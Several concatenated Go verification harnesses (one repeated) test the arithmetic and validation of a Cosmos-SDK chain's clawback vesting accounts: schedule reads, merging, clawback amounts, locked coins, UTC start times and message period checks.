	va, start := c09Account("acc", zz.ParamInt("lock", 2), zz.ParamInt("vest", 2))
	if zz.AnyBool("hasDelegations") {
		d := zz.AnyAmount("delegatedVesting", 64)
		zz.Assume(d.LTE(va.OriginalVesting.AmountOf("aISLM")))
		va.DelegatedVesting = sdk.NewCoins(sdk.NewCoin("aISLM", d))
		va.DelegatedFree = sdk.NewCoins(sdk.NewCoin("aISLM", zz.AnyAmount("delegatedFree", 64)))
	}
	ak.accs[string(c09Acc)] = va
	res, err := k.Balances(sdk.WrapSDKContext(ctx), &types.QueryBalancesRequest{Address: c09Acc.String()})
	zz.Assert(err == nil && res != nil, "the query answers for a clawback vesting account")
	ov := va.OriginalVesting.AmountOf("aISLM")
	unlocked := c09Released(start, va.LockupPeriods, now)
	vested := c09Released(start, va.VestingPeriods, now)
	zz.Assert(res.Locked.AmountOf("aISLM").Equal(ov.Sub(unlocked)), "locked = original - lockup periods ended by the block time (locked + unlocked = original)")
	zz.Assert(res.Vested.AmountOf("aISLM").Equal(vested), "vested = vesting periods ended by the block time")
	zz.Assert(res.Unvested.AmountOf("aISLM").Equal(ov.Sub(vested)), "unvested = original - vested")
	zz.Reach("end")
}


// VerifC08_ScheduleTracksOwnStake: the locked amount is max(original - unlockedVested - trackedDelegated, unvested), and
// trackedDelegated is set when a schedule is applied to an account that already exists: to what that account itself has
// bonded and unbonding at that moment - not to anybody else's stake (the funder signs the message and has stake of its own).
// A tracked delegation nobody will ever undelegate frees the same amount of vested-but-locked coins for good.
func VerifC08_ScheduleTracksOwnStake() {
	now := zz.AnyInt64In("now", 0, c09MaxStart+3*c09MaxLen)
	k, ctx, ak, _ := c09World(now)
	own := [2]sdkmath.Int{zz.AnyAmount("account.bonded", 100), zz.AnyAmount("account.unbonding", 100)}
	fun := [2]sdkmath.Int{zz.AnyAmount("funder.bonded", 100), zz.AnyAmount("funder.unbonding", 100)}
	c09Stake.bonded = map[string]sdkmath.Int{string(c09Acc): own[0], string(c09Funder): fun[0]}
	c09Stake.unbonding = map[string]sdkmath.Int{string(c09Acc): own[1], string(c09Funder): fun[1]}
	base := authtypes.NewBaseAccountWithAddress(c09Acc)
	merge := zz.AnyBool("targetIsVestingAccount")
	if merge {
		va, _ := c09Account("acc", 1, 1)
		va.BaseAccount = base
		ak.accs[string(c09Acc)] = va
	} else {
		ak.accs[string(c09Acc)] = &ethtypes.EthAccount{BaseAccount: base, CodeHash: common.Hash{}.Hex()}
	}
	s1 := zz.AnyInt64In("grant.start", 0, c09MaxStart)
	glk := c09Periods("grant.lock", 1)
	gvs := c09Periods("grant.vest", 1)
	g := glk.TotalAmount()
	zz.Assume(gvs.TotalAmount().AmountOf("aISLM").Equal(g.AmountOf("aISLM")))
	zz.Assume(g.AmountOf("aISLM").IsPositive())
	_, _, _, err := k.ApplyVestingSchedule(ctx, c09Funder, c09Acc, g, time.Unix(s1, 0), glk, gvs, merge)
	if err != nil {
		zz.Reach("?refused")
		return
	}
	after, ok := ak.accs[string(c09Acc)].(*types.ClawbackVestingAccount)
	zz.Assert(ok, "the account is a clawback vesting account afterwards")
	if ok {
		tracked := after.DelegatedFree.AmountOf("aISLM").Add(after.DelegatedVesting.AmountOf("aISLM"))
		zz.ObserveInt("trackedDelegated", tracked)
		zz.Assert(tracked.Equal(own[0].Add(own[1])), "the delegation tracked on the account is exactly what the account itself has bonded and unbonding")
	}
	zz.Reach("end")
}

// VerifC08_ConvertBackKeepsLockup: MsgConvertVestingAccount turns a clawback vesting account back into a plain account and
// drops its schedules. It is accepted only once nothing is unvested and the lockup schedule itself holds nothing back any
// more - whatever the account has delegated in the meantime (delegated coins come back when they are unbonded; without the
// schedule they would be free long before the unlock time).
func VerifC08_ConvertBackKeepsLockup() {
	now := zz.AnyInt64In("now", 0, c09MaxStart+3*c09MaxLen)
	k, ctx, ak, _ := c09World(now)
	va, _ := c09Account("acc", 2, 2)
	va.DelegatedFree = sdk.NewCoins(sdk.NewCoin("aISLM", zz.AnyAmount("delegatedFree", 100)))
	va.DelegatedVesting = sdk.NewCoins(sdk.NewCoin("aISLM", zz.AnyAmount("delegatedVesting", 100)))
	ak.accs[string(c09Acc)] = va
	lockedUp := va.GetLockedUpCoins(time.Unix(now, 0)).AmountOf("aISLM")
	unvested := va.GetVestingCoins(time.Unix(now, 0)).AmountOf("aISLM")
	_, err := k.ConvertVestingAccount(sdk.WrapSDKContext(ctx), types.NewMsgConvertVestingAccount(c09Acc))
	if err != nil {
		_, still := ak.accs[string(c09Acc)].(*types.ClawbackVestingAccount)
		zz.Assert(still, "a refused conversion leaves the vesting account in place")
		zz.Reach("?refused")
		return
	}
	zz.Assert(lockedUp.IsZero(), "a vesting account is converted back into a plain account only when its lockup schedule holds nothing back any more, whatever it has delegated")
	zz.Assert(unvested.IsZero(), "a vesting account is converted back into a plain account only when nothing is unvested")
	_, still := ak.accs[string(c09Acc)].(*types.ClawbackVestingAccount)
	zz.Assert(!still, "after the conversion the account is a plain account")
	zz.Reach("converted")
	zz.Reach("end")
}

// VerifC01_StoredTimesAreUTC: the start time of a vesting account is printed into the create_clawback_vesting_account event
// (Time.String()) and handed to clients by queries; a value in the node's own time zone renders differently on replicas
// in different zones although the stored bytes agree. Whatever path applied the schedule (new account, conversion of a
// plain account, merge into a vesting account), the stored start time is a UTC value.
func VerifC01_StoredTimesAreUTC() {
	now := zz.AnyInt64In("now", 0, c09MaxStart+3*c09MaxLen)
	k, ctx, ak, _ := c09World(now)
	base := authtypes.NewBaseAccountWithAddress(c09Acc)
	kind := zz.Choose("target", 3) // 0: no account yet, 1: plain account, 2: vesting account (merge)
	switch kind {
	case 1:
		ak.accs[string(c09Acc)] = &ethtypes.EthAccount{BaseAccount: base, CodeHash: common.Hash{}.Hex()}
	case 2:
		va, _ := c09Account("acc", 1, 1)
		va.BaseAccount = base
		ak.accs[string(c09Acc)] = va
	}
	s1 := zz.AnyInt64In("grant.start", 0, c09MaxStart)
	glk := c09Periods("grant.lock", 1)
	gvs := c09Periods("grant.vest", 1)
	g := glk.TotalAmount()
	zz.Assume(gvs.TotalAmount().AmountOf("aISLM").Equal(g.AmountOf("aISLM")))
	zz.Assume(g.AmountOf("aISLM").IsPositive())
	// the message carries a UTC time (protobuf timestamps decode to UTC)
	_, _, _, err := k.ApplyVestingSchedule(ctx, c09Funder, c09Acc, g, time.Unix(s1, 0).UTC(), glk, gvs, kind == 2)
	if err != nil {
		zz.Reach("?refused")
		return
	}
	after, ok := ak.accs[string(c09Acc)].(*types.ClawbackVestingAccount)
	zz.Assert(ok, "the account is a clawback vesting account afterwards")
	if ok {
		zz.Assert(!zz.IsLocalTime(after.StartTime), "the stored start time is a UTC value, not one in the node's own time zone (it is printed into events)")
	}
	zz.Reach("end")
}
