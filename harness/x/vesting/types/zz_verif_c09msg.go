package types

// Harness for property C09 at the door: the stateless validation of the two messages that carry schedules. The schedule
// algebra (reads are non-decreasing, vested + unvested = original, nothing negative) rests on every period having a
// positive length and a well-formed, non-negative amount; the message server only compares totals. An accepted message
// therefore carries only such periods - a negative period compensated by the others must not get through - and the period
// lengths add up to an end time that fits an int64.

import (
	"math/big"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	zz "github.com/haqq-network/haqq/zzverif"
)

var c09mBound = sdkmath.NewIntFromBigInt(new(big.Int).Lsh(big.NewInt(1), 200))

func c09mPeriods(tag string, n int) sdkvesting.Periods {
	var ps sdkvesting.Periods
	for i := 0; i < n; i++ {
		t := tag + string(rune('0'+i))
		amt := zz.AnySdkInt(t + ".amt")
		zz.Assume(amt.Abs().LT(c09mBound)) // sums near 2^256 make the validation panic (Int overflow), which rejects the transaction too
		ps = append(ps, sdkvesting.Period{Length: zz.AnyInt64In(t+".len", -1, 1<<62), Amount: sdk.Coins{sdk.Coin{Denom: "aISLM", Amount: amt}}})
	}
	return ps
}

func VerifC09_MessagePeriods() {
	from := sdk.AccAddress([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	to := sdk.AccAddress([]byte{2, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	lk := c09mPeriods("lock", zz.ParamInt("lock", 2))
	vs := c09mPeriods("vest", zz.ParamInt("vest", 2))
	var err error
	if zz.Choose("message", 2) == 0 {
		err = NewMsgCreateClawbackVestingAccount(from, to, time.Unix(1700000000, 0), lk, vs, zz.AnyBool("merge")).ValidateBasic()
	} else {
		err = MsgConvertIntoVestingAccount{FromAddress: from.String(), ToAddress: to.String(), StartTime: time.Unix(1700000000, 0), LockupPeriods: lk, VestingPeriods: vs, Merge: zz.AnyBool("merge")}.ValidateBasic()
	}
	if err != nil {
		zz.Reach("refused")
		return
	}
	for _, ps := range []sdkvesting.Periods{lk, vs} {
		for _, p := range ps {
			zz.Assert(p.Length >= 1, "an accepted message has only periods of positive length")
			zz.Assert(p.Amount[0].Amount.IsPositive(), "an accepted message has only periods with a positive, well-formed amount (nothing negative hidden behind the totals)")
		}
		// the end of the schedule is start + the lengths, added up in int64 when the account is stored and read
		end := int64(1700000000)
		for _, p := range ps {
			zz.Assert(p.Length <= 9223372036854775807-end, "an accepted message has schedules whose end time fits an int64 (no wrapped end time)")
			end += p.Length
		}
	}
	zz.Reach("accepted")
	zz.Reach("end")
}
