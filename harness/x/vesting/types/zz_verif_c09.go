package types

// Harnesses for property C09 (vesting schedule arithmetic; clawback) - executed
// symbolically by /verif/engine (gosym) and natively for replay.

import (
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	zz "github.com/haqq-network/haqq/zzverif"
)

const (
	vMaxStart = int64(1) << 60
	vMaxLen   = int64(1) << 56
	vMaxT     = int64(1) << 61
)

func vDenoms() []string {
	if zz.ParamInt("denoms", 1) == 2 {
		return []string{"aISLM", "aLIQUID1"}
	}
	return []string{"aISLM"}
}

// vAnyPeriods: n periods, every length in [0, 2^56] (zero-length allowed), every amount arbitrary in [0,2^128) per denom.
func vAnyPeriods(tag string, n int) sdkvesting.Periods {
	ps := make(sdkvesting.Periods, 0, n)
	for i := 0; i < n; i++ {
		t := tag + string(rune('0'+i))
		ps = append(ps, sdkvesting.Period{
			Length: zz.AnyInt64In(t+".len", 0, vMaxLen),
			Amount: zz.AnyCoins(t+".amt", 128, vDenoms()...),
		})
	}
	return ps
}

// vRef is the reference step function: the sum of all periods ended by t (and nothing up to the start).
func vRef(start int64, ps sdkvesting.Periods, t int64) sdk.Coins {
	sum := sdk.NewCoins()
	end := start
	for _, p := range ps {
		end += p.Length
		sum = sum.Add(zz.IteCoins(zz.And(end <= t, t > start), p.Amount, sdk.NewCoins())...)
	}
	return sum
}

func vEnd(start int64, ps sdkvesting.Periods) int64 {
	e := start
	for _, p := range ps {
		e += p.Length
	}
	return e
}

func vTotal(ps sdkvesting.Periods) sdk.Coins {
	sum := sdk.NewCoins()
	for _, p := range ps {
		sum = sum.Add(p.Amount...)
	}
	return sum
}

// VerifC09_Read: ReadSchedule(t) is the step function; zero up to start, total from the end on.
func VerifC09_Read() {
	n := zz.ParamInt("n", 2)
	start := zz.AnyInt64In("start", 0, vMaxStart)
	ps := vAnyPeriods("p", n)
	t := zz.AnyInt64In("t", 0, vMaxT)
	end := vEnd(start, ps)
	total := vTotal(ps)
	got := ReadSchedule(start, end, ps, total, t)
	zz.Assert(zz.CoinsEq(got, vRef(start, ps, t)), "ReadSchedule(t) = sum of periods ended by t")
	zz.Assert(zz.Implies(t <= start, got.IsZero()), "nothing released up to the start")
	// a schedule whose end coincides with its start is rejected by the account's Validate(); "total from the end on" is about end > start
	zz.Assert(zz.Implies(zz.And(t >= end, end > start), zz.CoinsEq(got, total)), "total released from the end on")
	zz.ObserveCoins("got", got)
	cnt := ReadPastPeriodCount(start, end, ps, t)
	zz.Assert(zz.CoinsEq(vTotal(ps[:cnt]), got), "ReadPastPeriodCount counts exactly the released periods")
	zz.Reach("end")
}

// VerifC09_Mono: t1 <= t2 => Read(t1) <= Read(t2) component-wise.
func VerifC09_Mono() {
	n := zz.ParamInt("n", 2)
	start := zz.AnyInt64In("start", 0, vMaxStart)
	ps := vAnyPeriods("p", n)
	t1 := zz.AnyInt64In("t1", 0, vMaxT)
	t2 := zz.AnyInt64In("t2", 0, vMaxT)
	zz.Assume(t1 <= t2)
	end := vEnd(start, ps)
	total := vTotal(ps)
	r1 := ReadSchedule(start, end, ps, total, t1)
	r2 := ReadSchedule(start, end, ps, total, t2)
	zz.ObserveCoins("r1", r1)
	zz.ObserveCoins("r2", r2)
	zz.Assert(zz.CoinsLTE(r1, r2), "ReadSchedule is non-decreasing in t")
	zz.Assert(zz.CoinsLTE(r2, total), "never more than the total")
	zz.Reach("end")
}

// VerifC09_Disjunct: merging yields the union of release events: Read(merged,t) = Read(A,t)+Read(B,t).
func VerifC09_Disjunct() {
	na, nb := zz.ParamInt("na", 2), zz.ParamInt("nb", 2)
	sa := zz.AnyInt64In("startA", 0, vMaxStart)
	sb := zz.AnyInt64In("startB", 0, vMaxStart)
	a := vAnyPeriods("A", na)
	b := vAnyPeriods("B", nb)
	t := zz.AnyInt64In("t", 0, vMaxT)
	s, e, m := DisjunctPeriods(sa, sb, a, b)
	zz.Assert(s == Min64(sa, sb), "merged start is the earlier start")
	for _, p := range m {
		zz.Assert(p.Length >= 0, "merged period lengths are non-negative")
	}
	zz.Assert(e == vEnd(s, m), "merged end time is the time of the last event")
	if na > 0 && nb > 0 {
		zz.Assert(e == Max64(vEnd(sa, a), vEnd(sb, b)), "merged end = later of the two ends")
	}
	zz.Assert(zz.CoinsEq(vTotal(m), vTotal(a).Add(vTotal(b)...)), "merged total = sum of totals")
	got := ReadSchedule(s, e, m, vTotal(m), t)
	zz.ObserveInt64("s", s)
	zz.ObserveInt64("e", e)
	zz.ObserveCoins("got", got)
	want := vRef(sa, a, t).Add(vRef(sb, b, t)...)
	zz.Assume(t > Max64(sa, sb))
	zz.Assert(zz.CoinsEq(got, want), "after both started, merged schedule releases the sum of the two")
	zz.Reach("end")
}

// VerifC09_Conjunct: capping yields the pointwise minimum of the two schedules.
func VerifC09_Conjunct() {
	na, nb := zz.ParamInt("na", 2), zz.ParamInt("nb", 2)
	sa := zz.AnyInt64In("startA", 0, vMaxStart)
	sb := zz.AnyInt64In("startB", 0, vMaxStart)
	a := vAnyPeriods("A", na)
	b := vAnyPeriods("B", nb)
	t := zz.AnyInt64In("t", 0, vMaxT)
	s, e, m := ConjunctPeriods(sa, sb, a, b)
	zz.Assert(s == Min64(sa, sb), "conjunct start is the earlier start")
	for _, p := range m {
		zz.Assert(p.Length >= 0, "conjunct period lengths are non-negative")
	}
	zz.Assert(e == vEnd(s, m), "conjunct end time is the time of the last event")
	zz.Assert(zz.CoinsEq(vTotal(m), vTotal(a).Min(vTotal(b))), "conjunct total = min of totals")
	got := ReadSchedule(s, e, m, vTotal(m), t)
	zz.ObserveInt64("s", s)
	zz.ObserveInt64("e", e)
	zz.ObserveCoins("got", got)
	want := vRef(sa, a, t).Min(vRef(sb, b, t))
	// at the single instant t = later start (starts differing) a zero-length first period of the later schedule is an
	// event "at its own start", which the step-function convention (nothing up to and including the start) does not
	// define; every other instant is covered.
	zz.Assume(zz.Or(t != Max64(sa, sb), sa == sb))
	zz.Assert(zz.CoinsEq(got, want), "capped schedule releases the minimum of the two")
	zz.Reach("end")
}
