package types

// Harnesses for property C09 (vesting schedule arithmetic; clawback) - executed
// symbolically by /verif/engine (gosym) and natively for replay.

import (
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	zz "github.com/haqq-network/haqq/zzverif"
)

const (
	vMaxStart = int64(1) << 60
	vMaxLen   = int64(1) << 56
	vMaxT     = int64(1) << 61
)

func vDenoms() []string {
	if zz.ParamInt("denoms", 1) == 2 {
		return []string{"aISLM", "aLIQUID1"}
	}
	return []string{"aISLM"}
}

// vAnyPeriods: n periods, every length in [0, 2^56] (zero-length allowed), every amount arbitrary in [0,2^128) per denom.
func vAnyPeriods(tag string, n int) sdkvesting.Periods {
	ps := make(sdkvesting.Periods, 0, n)
	for i := 0; i < n; i++ {
		t := tag + string(rune('0'+i))
		ps = append(ps, sdkvesting.Period{
			Length: zz.AnyInt64In(t+".len", 0, vMaxLen),
			Amount: zz.AnyCoins(t+".amt", 128, vDenoms()...),
		})
	}
	return ps
}

// vRef is the reference step function: the sum of all periods ended by t (and nothing up to the start).
func vRef(start int64, ps sdkvesting.Periods, t int64) sdk.Coins {
	sum := sdk.NewCoins()
	end := start
	for _, p := range ps {
		end += p.Length
		sum = sum.Add(zz.IteCoins(zz.And(end <= t, t > start), p.Amount, sdk.NewCoins())...)
	}
	return sum
}

func vEnd(start int64, ps sdkvesting.Periods) int64 {
	e := start
	for _, p := range ps {
		e += p.Length
	}
	return e
}

func vTotal(ps sdkvesting.Periods) sdk.Coins {
	sum := sdk.NewCoins()
	for _, p := range ps {
		sum = sum.Add(p.Amount...)
	}
	return sum
}

// VerifC09_Read: ReadSchedule(t) is the step function; zero up to start, total from the end on.
func VerifC09_Read() {
	n := zz.ParamInt("n", 2)
	start := zz.AnyInt64In("start", 0, vMaxStart)
	ps := vAnyPeriods("p", n)
	t := zz.AnyInt64In("t", 0, vMaxT)
	end := vEnd(start, ps)
	total := vTotal(ps)
	got := ReadSchedule(start, end, ps, total, t)
	zz.Assert(zz.CoinsEq(got, vRef(start, ps, t)), "ReadSchedule(t) = sum of periods ended by t")
	zz.Assert(zz.Implies(t <= start, got.IsZero()), "nothing released up to the start")
	// a schedule whose end coincides with its start is rejected by the account's Validate(); "total from the end on" is about end > start
	zz.Assert(zz.Implies(zz.And(t >= end, end > start), zz.CoinsEq(got, total)), "total released from the end on")
	zz.ObserveCoins("got", got)
	cnt := ReadPastPeriodCount(start, end, ps, t)
	zz.Assert(zz.CoinsEq(vTotal(ps[:cnt]), got), "ReadPastPeriodCount counts exactly the released periods")
	zz.Reach("end")
}

// VerifC09_Mono: t1 <= t2 => Read(t1) <= Read(t2) component-wise.
func VerifC09_Mono() {
	n := zz.ParamInt("n", 2)
	start := zz.AnyInt64In("start", 0, vMaxStart)
	ps := vAnyPeriods("p", n)
	t1 := zz.AnyInt64In("t1", 0, vMaxT)
	t2 := zz.AnyInt64In("t2", 0, vMaxT)
	zz.Assume(t1 <= t2)
	end := vEnd(start, ps)
	total := vTotal(ps)
	r1 := ReadSchedule(start, end, ps, total, t1)
	r2 := ReadSchedule(start, end, ps, total, t2)
	zz.ObserveCoins("r1", r1)
	zz.ObserveCoins("r2", r2)
	zz.Assert(zz.CoinsLTE(r1, r2), "ReadSchedule is non-decreasing in t")
	zz.Assert(zz.CoinsLTE(r2, total), "never more than the total")
	zz.Reach("end")
}

// VerifC09_Disjunct: merging yields the union of release events: Read(merged,t) = Read(A,t)+Read(B,t).
func VerifC09_Disjunct() {
	na, nb := zz.ParamInt("na", 2), zz.ParamInt("nb", 2)
	sa := zz.AnyInt64In("startA", 0, vMaxStart)
	sb := zz.AnyInt64In("startB", 0, vMaxStart)
	a := vAnyPeriods("A", na)
	b := vAnyPeriods("B", nb)
	t := zz.AnyInt64In("t", 0, vMaxT)
	s, e, m := DisjunctPeriods(sa, sb, a, b)
	zz.Assert(s == Min64(sa, sb), "merged start is the earlier start")
	for _, p := range m {
		zz.Assert(p.Length >= 0, "merged period lengths are non-negative")
	}
	zz.Assert(e == vEnd(s, m), "merged end time is the time of the last event")
	if na > 0 && nb > 0 {
		zz.Assert(e == Max64(vEnd(sa, a), vEnd(sb, b)), "merged end = later of the two ends")
	}
	zz.Assert(zz.CoinsEq(vTotal(m), vTotal(a).Add(vTotal(b)...)), "merged total = sum of totals")
	got := ReadSchedule(s, e, m, vTotal(m), t)
	zz.ObserveInt64("s", s)
	zz.ObserveInt64("e", e)
	zz.ObserveCoins("got", got)
	want := vRef(sa, a, t).Add(vRef(sb, b, t)...)
	zz.Assume(t > Max64(sa, sb))
	zz.Assert(zz.CoinsEq(got, want), "after both started, merged schedule releases the sum of the two")
	zz.Reach("end")
}

// VerifC09_Conjunct: capping yields the pointwise minimum of the two schedules.
func VerifC09_Conjunct() {
	na, nb := zz.ParamInt("na", 2), zz.ParamInt("nb", 2)
	sa := zz.AnyInt64In("startA", 0, vMaxStart)
	sb := zz.AnyInt64In("startB", 0, vMaxStart)
	a := vAnyPeriods("A", na)
	b := vAnyPeriods("B", nb)
	t := zz.AnyInt64In("t", 0, vMaxT)
	s, e, m := ConjunctPeriods(sa, sb, a, b)
	zz.Assert(s == Min64(sa, sb), "conjunct start is the earlier start")
	for _, p := range m {
		zz.Assert(p.Length >= 0, "conjunct period lengths are non-negative")
	}
	zz.Assert(e == vEnd(s, m), "conjunct end time is the time of the last event")
	zz.Assert(zz.CoinsEq(vTotal(m), vTotal(a).Min(vTotal(b))), "conjunct total = min of totals")
	got := ReadSchedule(s, e, m, vTotal(m), t)
	zz.ObserveInt64("s", s)
	zz.ObserveInt64("e", e)
	zz.ObserveCoins("got", got)
	want := vRef(sa, a, t).Min(vRef(sb, b, t))
	// at the single instant t = later start (starts differing) a zero-length first period of the later schedule is an
	// event "at its own start", which the step-function convention (nothing up to and including the start) does not
	// define; every other instant is covered.
	zz.Assume(zz.Or(t != Max64(sa, sb), sa == sb))
	zz.Assert(zz.CoinsEq(got, want), "capped schedule releases the minimum of the two")
	zz.Reach("end")
}

// ---------------------------------------------------------------- account level (C09 clawback, C08 locked coins)

// vAnyAccount: an arbitrary valid clawback vesting account: both schedules start together, sum to the same grant,
// EndTime = later end (as NewClawbackVestingAccount computes it), arbitrary tracked delegations.
func vAnyAccount(nl, nv int) (*ClawbackVestingAccount, int64) {
	start := zz.AnyInt64In("start", 0, vMaxStart)
	lp := vAnyPeriods("L", nl)
	vp := vAnyPeriods("V", nv)
	zz.Assume(zz.CoinsEq(vTotal(lp), vTotal(vp)))
	addr := sdk.AccAddress([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	funder := sdk.AccAddress([]byte{2, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	va := NewClawbackVestingAccount(authtypes.NewBaseAccountWithAddress(addr), funder, vTotal(lp), time.Unix(start, 0), lp, vp, nil)
	return va, start
}

// VerifC09_AccountSplit: vested+unvested = locked+unlocked = original grant, nothing negative, no panic, for every time.
func VerifC09_AccountSplit() {
	va, start := vAnyAccount(zz.ParamInt("nl", 2), zz.ParamInt("nv", 2))
	t := zz.AnyInt64In("t", 0, vMaxT)
	bt := time.Unix(t, 0)
	zz.Assert(va.EndTime == Max64(vEnd(start, va.LockupPeriods), vEnd(start, va.VestingPeriods)), "account end time is the later schedule end")
	vested, unvested := va.GetVestedCoins(bt), va.GetVestingCoins(bt)
	unlocked, locked := va.GetUnlockedCoins(bt), va.GetLockedUpCoins(bt)
	zz.ObserveCoins("vested", vested)
	zz.ObserveCoins("unlocked", unlocked)
	zz.Assert(zz.CoinsEq(vested.Add(unvested...), va.OriginalVesting), "vested + unvested = original grant")
	zz.Assert(zz.CoinsEq(unlocked.Add(locked...), va.OriginalVesting), "locked + unlocked = original grant")
	zz.Assert(zz.And(zz.CoinsNonNeg(vested), zz.CoinsNonNeg(unvested), zz.CoinsNonNeg(unlocked), zz.CoinsNonNeg(locked)), "no part is negative")
	// the account end time equals a schedule end; where it exceeds the other schedule's end the step function still agrees
	zz.Assert(zz.CoinsEq(vested, vRef(start, va.VestingPeriods, t)), "vested coins follow the vesting step function")
	zz.Assert(zz.CoinsEq(unlocked, vRef(start, va.LockupPeriods, t)), "unlocked coins follow the lockup step function")
	zz.Reach("end")
}

// VerifC08_LockedCoins: LockedCoins(t) = max(original - unlockedVested - trackedDelegated, unvested), component-wise.
func VerifC08_LockedCoins() {
	va, start := vAnyAccount(zz.ParamInt("nl", 2), zz.ParamInt("nv", 2))
	va.DelegatedFree = zz.AnyCoins("delegatedFree", 128, vDenoms()...)
	va.DelegatedVesting = zz.AnyCoins("delegatedVesting", 128, vDenoms()...)
	t := zz.AnyInt64In("t", 0, vMaxT)
	got := va.LockedCoins(time.Unix(t, 0))
	zz.ObserveCoins("locked", got)
	vested := vRef(start, va.VestingPeriods, t)
	unlocked := vRef(start, va.LockupPeriods, t)
	unvested := va.OriginalVesting.Sub(vested...)
	unlockedVested := unlocked.Min(vested)
	tracked := va.DelegatedFree.Add(va.DelegatedVesting...)
	for _, d := range vDenoms() {
		a := va.OriginalVesting.AmountOf(d).Sub(unlockedVested.AmountOf(d)).Sub(tracked.AmountOf(d))
		want := sdkmath.MaxInt(a, unvested.AmountOf(d))
		zz.Assert(got.AmountOf(d).Equal(want), "LockedCoins = max(original - unlockedVested - trackedDelegated, unvested)")
		zz.Assert(got.AmountOf(d).GTE(unvested.AmountOf(d)), "unvested coins are always locked")
		zz.Assert(got.AmountOf(d).LTE(va.OriginalVesting.AmountOf(d)), "never more than the grant is locked")
	}
	zz.Reach("end")
}

// VerifC09_Clawback: ComputeClawback(c) returns exactly the unvested amount and leaves an account that keeps every vested
// coin under its original lockup.
func VerifC09_Clawback() {
	va, start := vAnyAccount(zz.ParamInt("nl", 2), zz.ParamInt("nv", 2))
	c := zz.AnyInt64In("clawbackTime", 0, vMaxT)
	t := zz.AnyInt64In("t", 0, vMaxT)
	oldLockup := va.LockupPeriods
	oldVesting := va.VestingPeriods
	orig := va.OriginalVesting
	vestedAtC := vRef(start, oldVesting, c)
	na, amount := va.ComputeClawback(c)
	zz.ObserveCoins("clawed", amount)
	zz.ObserveInt64("newEnd", na.EndTime)
	zz.Assert(zz.CoinsEq(amount, orig.Sub(vestedAtC...)), "clawback takes exactly the unvested amount")
	zz.Assert(zz.CoinsEq(na.OriginalVesting, vestedAtC), "the account keeps exactly the vested coins")
	// consistency of the new account
	zz.Assert(zz.CoinsEq(vTotal(na.VestingPeriods), na.OriginalVesting), "new vesting schedule sums to the kept amount")
	zz.Assert(zz.CoinsEq(vTotal(na.LockupPeriods), na.OriginalVesting), "new lockup schedule sums to the kept amount")
	zz.Assert(vEnd(start, na.VestingPeriods) <= na.EndTime && vEnd(start, na.LockupPeriods) <= na.EndTime, "both new schedules end by the new end time")
	zz.Assert(na.GetStartTime() == start, "start time unchanged")
	// behaviour at an arbitrary later read time: vested coins stay subject to the original lockup
	bt := time.Unix(t, 0)
	unlockedNew := na.GetUnlockedCoins(bt)
	zz.ObserveCoins("unlockedNew", unlockedNew)
	want := vRef(start, oldLockup, t).Min(vestedAtC)
	zz.Assert(zz.CoinsEq(unlockedNew, want), "after clawback the kept coins unlock exactly as the original lockup allows")
	zz.Assert(zz.CoinsEq(na.GetVestedCoins(bt), vRef(start, oldVesting, t).Min(vestedAtC)), "after clawback vested coins are the events up to the clawback")
	locked := na.LockedCoins(bt)
	zz.Assert(zz.CoinsEq(locked, na.OriginalVesting.Sub(unlockedNew.Min(na.GetVestedCoins(bt))...)), "after clawback (no delegations) locked = kept - unlockedVested")
	// validity as the account itself defines it (auth's genesis validation runs it on every exported account). Validate() insists on start < end, which a
	// kept schedule whose events all sit on the start instant cannot satisfy; every account the chain can create has a
	// first lockup period of positive length (messages require length >= 1, liquid-vesting redeem passes the positive
	// remainder of the current period), so that is the domain of this clause.
	if len(oldLockup) > 0 && oldLockup[0].Length >= 1 {
		zz.Assert(na.Validate() == nil, "a clawback leaves an account accepted by its own Validate(), whether it keeps coins or takes the whole grant")
		if na.OriginalVesting.IsZero() {
			zz.Reach("?emptied")
		} else {
			zz.Reach("kept")
		}
	}
	zz.Reach("end")
}
