package types

// Harness for property C09 at the account's own validity check (genesis import runs it on every account; "leaves a valid
// account" is stated in its terms): Validate accepts an account only if both schedules add up to the original grant in
// every denomination. It rests on CoinEq, the comparison the package uses because Coins.IsEqual can panic.

import (
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	"github.com/ethereum/go-ethereum/common"

	zz "github.com/haqq-network/haqq/zzverif"
)

func c09eCoins(tag string) sdk.Coins {
	return sdk.NewCoins(sdk.NewCoin("aISLM", zz.AnyAmount(tag+".aISLM", 100)), sdk.NewCoin("aLIQUID1", zz.AnyAmount(tag+".aLIQUID1", 100)))
}

func c09eSame(a, b sdk.Coins) bool {
	return a.AmountOf("aISLM").Equal(b.AmountOf("aISLM")) && a.AmountOf("aLIQUID1").Equal(b.AmountOf("aLIQUID1"))
}

// VerifC09_CoinEq: CoinEq(a, b) holds exactly when both sides carry the same amount of every denomination (a denomination
// absent on one side counts as zero; either side may be empty).
func VerifC09_CoinEq() {
	a, b := c09eCoins("a"), c09eCoins("b")
	zz.Assert(CoinEq(a, b) == c09eSame(a, b), "CoinEq holds exactly for equal amounts in every denomination")
	zz.Reach("end")
}

// VerifC09_ValidateTotals: an account over two denominations that passes Validate has lockup and vesting schedules that each
// add up to the original grant in both denominations.
func VerifC09_ValidateTotals() {
	ov := c09eCoins("original")
	lk := sdkvesting.Periods{{Length: 10, Amount: c09eCoins("lock0")}, {Length: 10, Amount: c09eCoins("lock1")}}
	vs := sdkvesting.Periods{{Length: 20, Amount: c09eCoins("vest0")}}
	if zz.AnyBool("noLockupPeriods") {
		lk = nil
	}
